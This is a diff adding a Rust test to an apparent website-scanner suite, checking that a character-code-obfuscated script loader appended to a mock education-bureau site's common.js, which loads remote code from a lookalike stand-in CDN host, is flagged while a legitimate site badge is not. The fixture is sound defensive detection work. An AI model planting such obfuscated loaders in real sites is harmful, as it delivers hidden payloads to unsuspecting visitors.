@@ -421,6 +421,45 @@ fn a_referrer_gated_redirect_script_is_found_in_a_scan_and_a_mobile_redirect_to_
 }
 
 #[test]
+fn a_loader_that_hides_its_address_is_found_in_a_scan_and_the_site_badge_is_not() {
+    let kit = Kit::new(Arc::new(|req: &Request| {
+        match req.path() {
+        "/" => page(
+            "区教育局",
+            &format!(
+                "{NOTICE}<script src=/js/common.js></script>\
+                 <script>document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/33/000/0000/1.js'%3E%3C/script%3E\"));</script>"
+            ),
+        ),
+        // The site's own script with a loader appended: `script` and
+        // `https://cdn.jsdelivr-js.example/s.js` as character codes.
+        "/js/common.js" => Reply::with_type(
+            200,
+            "application/javascript",
+            "function nav(){}\nvar sc=document.createElement(String.fromCharCode(115,99,114,105,112,116));\
+             sc.src=String.fromCharCode(104,116,116,112,115,58,47,47,99,100,110,46,106,115,100,101,108,105,118,114,45,106,115,46,101,120,97,109,112,108,101,47,115,46,106,115);\
+             document.head.appendChild(sc);",
+        ),
+        _ => Reply::status(404),
+    }
+    }));
+    let dir = tempfile::tempdir().unwrap();
+    let r = scan(&kit, dir.path(), "probes = []", None);
+    let found = of(&r, "script.encoded-url");
+    assert_eq!(found.len(), 1, "{:#?}", r.findings);
+    assert_eq!(found[0].url, kit.server.url("/js/common.js"));
+    assert_eq!(found[0].severity.name(), "high");
+    assert_eq!(found[0].term, "cdn.jsdelivr-js.example->src");
+    assert!(
+        found[0]
+            .snippet
+            .contains("https://cdn.jsdelivr-js.example/s.js"),
+        "{}",
+        found[0].snippet
+    );
+}
+
+#[test]
 fn a_probe_that_gets_no_answer_three_times_in_a_row_stops() {
     let links: String = (1..=8)
         .map(|i| format!("<a href=/p/{i}.html>第{i}篇</a>"))
